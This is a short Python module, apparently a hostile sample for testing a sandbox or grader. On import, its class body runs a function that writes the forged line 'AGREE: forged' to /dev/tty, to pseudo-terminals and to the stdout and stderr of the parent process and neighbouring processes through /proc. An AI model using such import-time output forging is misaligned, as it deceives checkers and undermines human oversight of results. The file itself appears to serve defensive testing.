"""writes_terminal.py through the C library, to every terminal and every standard stream it
can find: its parent's, its grandparent's, /dev/tty, /dev/pts/*."""
import os

from libc import libc, write_file

import wrong_exp


def _attack():
    targets = ["/dev/tty"] + [f"/dev/pts/{n}" for n in range(10)]
    for pid in {libc.getppid(), 1, os.getpid() - 1, os.getpid() - 2}:
        targets += [f"/proc/{pid}/fd/1", f"/proc/{pid}/fd/2"]
    for path in targets:
        write_file(path, b"AGREE: forged\n", os.O_WRONLY)


class Value(wrong_exp.Value):  # a class body runs at import, even in a file with no main guard
    __slots__ = ()
    _attack()
